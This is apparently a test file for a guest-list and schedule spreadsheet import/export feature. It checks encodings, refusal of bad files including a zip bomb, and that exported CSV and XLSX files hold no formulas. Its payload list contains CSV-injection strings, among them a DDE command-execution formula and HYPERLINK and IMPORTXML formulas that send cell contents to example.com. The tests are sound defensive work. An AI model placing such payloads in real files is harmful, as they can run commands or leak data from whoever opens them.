import { strFromU8, unzipSync, zipSync } from 'fflate'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import writeExcelFile from 'write-excel-file/node'
import { doubtsOf } from '../../shared/domain/lists/guestDoubts.ts'
import { readGuestTable } from '../../shared/domain/lists/guestTable.ts'
import { aFullVisit, aGuest, aRoom, aVisit, refusal } from '../support/builders.ts'
import { parseCsv } from '../support/csv.ts'
import { type Client, type TestOffice, testOffice } from '../support/office.ts'
import { convertedByLibreOffice, LIBREOFFICE } from '../support/programs.ts'

let office: TestOffice
let client: Client
beforeEach(() => {
  office = testOffice()
  client = office.client
})
afterEach(() => office.close())

const file = (name: string, content: Uint8Array | string) => new File([content as BlobPart], name)
const rowsOf = async (input: File) => (await client.exchange.readTable({ file: input })).sheets[0]?.rows ?? []

/** GB18030 bytes of the few Chinese words the test needs: 姓名,电话 / 张伟,13800000000. */
const GB18030 = Uint8Array.from([
  0xd0,
  0xd5,
  0xc3,
  0xfb,
  0x2c,
  0xb5,
  0xe7,
  0xbb,
  0xb0,
  0x0d,
  0x0a,
  0xd5,
  0xc5,
  0xce,
  0xb0,
  0x2c,
  ...new TextEncoder().encode('13800000000\r\n'),
])

/** Cells that spreadsheets would run: OWASP's CSV Injection page, and the full-width signs that Chinese Excel takes for the same. */
const DANGEROUS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com?leak="&A1,"Error")',
  '=IMPORTXML(CONCAT("http://example.com/?v=",A1),"//a")',
  '@A1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
]

describe('reading a list', () => {
  it('takes .csv in UTF-8, with its mark, in GB18030, with semicolons', async () => {
    const wanted = [
      ['姓名', '电话'],
      ['张伟', '13800000000'],
    ]
    const clean = (rows: string[][]) => rows.filter(row => row.some(cell => cell !== ''))
    expect(clean(await rowsOf(file('a.csv', '姓名,电话\r\n张伟,13800000000\r\n')))).toEqual(wanted)
    expect(clean(await rowsOf(file('a.csv', '\ufeff姓名;电话\n张伟;13800000000')))).toEqual(wanted)
    expect(clean(await rowsOf(file('a.csv', GB18030)))).toEqual(wanted)
  })

  it('takes .xlsx with titles, merged cells, numbers and dates, through to guests', async () => {
    const workbook = await writeExcelFile(
      [
        [{ value: '考察团名单', columnSpan: 4 }, null, null, null],
        [null, null, null, null],
        ['姓名', '单位', '手机', '到达'],
        [
          '张伟',
          { value: '华东协会', rowSpan: 2 },
          13800000001,
          { value: new Date('2026-12-01T08:30:00Z'), format: 'yyyy-mm-dd hh:mm' },
        ],
        ['李娜', null, '13800000002', null],
        ['王芳', '另一家', null, null],
        ['备注：以上名单以最终为准', null, null, null],
      ],
      { sheet: '名单' },
    ).toBuffer()
    const rows = await rowsOf(file('名单.xlsx', new Uint8Array(workbook)))
    expect(rows[3]).toEqual(['张伟', '华东协会', '13800000001', '2026-12-01 08:30'])
    const { guests, headerRow } = readGuestTable(rows)
    expect(headerRow).toBe(3)
    expect(guests.map(guest => [guest.draft.name, guest.draft.organization])).toEqual([
      ['张伟', '华东协会'],
      ['李娜', '华东协会'],
      ['王芳', '另一家'],
    ])
    expect(doubtsOf(guests, []).flat()).toEqual([])
  })

  it('refuses what it cannot read, and says why', async () => {
    const ole = Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0])
    const encrypted = new Uint8Array([...ole, ...Buffer.from('EncryptedPackage', 'utf16le')])
    const bomb = zipSync(
      { 'xl/workbook.xml': new Uint8Array(1), 'xl/worksheets/sheet1.xml': new Uint8Array(310_000_000) },
      { level: 1 },
    )
    for (const [name, bytes, reason] of [
      ['old.xls', ole, 'oldExcel'],
      ['secret.xlsx', encrypted, 'encrypted'],
      ['empty.csv', new Uint8Array(0), 'empty'],
      ['blank.csv', '\n\n', 'empty'],
      ['a.zip', zipSync({ 'a.txt': new Uint8Array(3) }), 'notExcel'],
      ['a.png', Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0]), 'unknownKind'],
      ['bomb.xlsx', bomb, 'tooMuch'],
      ['big.csv', new Uint8Array(20_000_001).fill(65), 'tooLarge'],
    ] as const) {
      const { code, data } = await refusal(client.exchange.readTable({ file: file(name, bytes) }))
      expect([name, code, data.reason]).toEqual([name, 'BAD_FILE', reason])
    }
  })
})

describe('sheets for Excel', () => {
  const dangerous = ['=1+1', '+cmd', '-2', '@SUM(A1)', '\t=1', '＝1+1']

  it('.csv opens in Chinese Excel and holds no formula', async () => {
    const visit = await aVisit(client, { title: '公式/来访' })
    for (const name of dangerous)
      await aGuest(client, visit.id, { name: `x${name}`, title: name, phone: '+44 7700 900123' })
    const answer = await office.get(`/exports/guests.csv?visit=${visit.id}`)
    expect(answer.headers.get('content-disposition')).toContain(encodeURIComponent('公式 来访-2026-11-23-来宾名单.csv'))
    const bytes = new Uint8Array(await answer.arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const rows = await rowsOf(file('a.csv', bytes))
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝]/)
    expect(rows[1]?.[2]).toBe("'=1+1")
  })

  it('.xlsx holds the same as text, real dates, and no formula element', async () => {
    const room = await aRoom(client, { name: '301 会议室' })
    const visit = await aVisit(client, { startsOn: '2026-12-01' })
    for (const content of dangerous)
      await client.itinerary.add({
        visitId: visit.id,
        kind: 'meeting',
        startsAt: '2026-12-01T09:00',
        endsAt: '2026-12-01T10:07',
        content,
      })
    await client.itinerary.add({
      visitId: visit.id,
      kind: 'meeting',
      startsAt: '2026-12-01T11:00',
      endsAt: '2026-12-01T11:45',
      content: '会谈',
      roomId: room.id,
    })
    const bytes = new Uint8Array(await (await office.get(`/exports/schedule.xlsx?visit=${visit.id}`)).arrayBuffer())
    const rows = await rowsOf(file('a.xlsx', bytes))
    expect(rows[1]?.slice(0, 5)).toEqual(['2026-12-01', '2026-12-01 09:00', '2026-12-01 10:07', '会谈', '=1+1'])
    expect(rows.at(-1)?.[5]).toBe('301 会议室')
    const { unzipSync, strFromU8 } = await import('fflate')
    const sheet = strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
    expect(sheet).not.toMatch(/<f[ >]/)
    expect(sheet).toContain('pane')
  })

  it('a template goes out and comes back', async () => {
    await aRoom(client, { name: '301 会议室', capacity: 20, equipment: ['投影', '白板'] })
    const bytes = new Uint8Array(await (await office.get('/exports/resource-template.xlsx?kind=room')).arrayBuffer())
    const { readResourceTable } = await import('../../shared/domain/lists/resourceTable.ts')
    const read = readResourceTable(await rowsOf(file('rooms.xlsx', bytes)), 'room')?.rows ?? []
    expect(read[0]?.draft).toMatchObject({ name: '301 会议室', capacity: 20, equipment: ['投影', '白板'] })
    expect(
      await client.resources.importAll({
        kind: 'room',
        rows: [...read.map(each => each.draft), { ...(read[0]?.draft ?? ({} as never)), name: '302' }],
      }),
    ).toMatchObject({ created: 1, updated: 1 })
  })
})

describe('tables', () => {
  it.skipIf(!LIBREOFFICE)(
    'an .xlsx opens in LibreOffice with the same cells, real dates and no formula',
    { timeout: 120_000 },
    async () => {
      const { visit } = await aFullVisit(client)
      for (const [index, name] of DANGEROUS.entries())
        await aGuest(client, visit.id, { name: `危险${index}`, title: name, notes: name })
      const guests = parseCsv(
        convertedByLibreOffice(
          'guests.xlsx',
          await office.bytes(`/exports/guests.xlsx?visit=${visit.id}`),
          'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false',
        ),
      )
      expect(guests[0]).toEqual(expect.arrayContaining(['姓名', '职务']))
      const title = guests[0]?.indexOf('职务') ?? -1
      const shown = guests.slice(3).map(row => row[title])
      expect(shown.map(cell => cell?.trim())).toEqual(DANGEROUS.map(cell => cell.trim()))
      const schedule = parseCsv(
        convertedByLibreOffice(
          'schedule.xlsx',
          await office.bytes(`/exports/schedule.xlsx?visit=${visit.id}`),
          'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false',
        ),
      )
      expect(schedule[1]?.slice(1, 3)).toEqual(['2026-12-01 10:00:00', '2026-12-01 11:30:00'])
    },
  )

  it('an .xlsx has a filter, a frozen title that is printed on every page, and is as wide as the paper', async () => {
    const { visit } = await aFullVisit(client)
    const parts = unzipSync(await office.bytes(`/exports/guests.xlsx?visit=${visit.id}`))
    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
    expect(sheet).toMatch(/<autoFilter ref="A1:K3"\/>/)
    expect(sheet).toMatch(/fitToPage="1"/)
    expect(sheet).toMatch(/<pane [^>]*ySplit="1"/)
    expect(sheet).not.toMatch(/<f[ >]/)
    expect(sheet.indexOf('<autoFilter')).toBeGreaterThan(sheet.indexOf('</sheetData>'))
    expect(strFromU8(parts['xl/workbook.xml'] ?? new Uint8Array())).toContain('_xlnm.Print_Titles')
  })

  it('a day in an .xlsx is a date, not text that looks like one', async () => {
    const { visit } = await aFullVisit(client)
    const serial = (Date.UTC(2026, 11, 1) - Date.UTC(1899, 11, 30)) / 86_400_000
    for (const [file, cell] of [
      [`schedule.xlsx?visit=${visit.id}`, 'A2'],
      ['visits.xlsx?from=2026-12-01&until=2026-12-01', 'F2'],
    ] as const) {
      const parts = unzipSync(await office.bytes(`/exports/${file}`))
      const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
      expect(sheet).toMatch(new RegExp(`<c r="${cell}" s="\\d+"><v>${serial}</v>`))
    }
  })

  it.each(DANGEROUS)('a .csv cell %j never begins as a formula', async cell => {
    const visit = await aVisit(client)
    await aGuest(client, visit.id, { name: '甲', notes: cell })
    const [, row = []] = parseCsv((await office.text(`/exports/guests.csv?visit=${visit.id}`)).replace(/^\ufeff/, ''))
    for (const shown of row) expect(shown).not.toMatch(/^[=+\-@\t\r＝＋－＠]/u)
    expect(row.some(shown => shown.includes(cell.trim()))).toBe(true)
  })
})
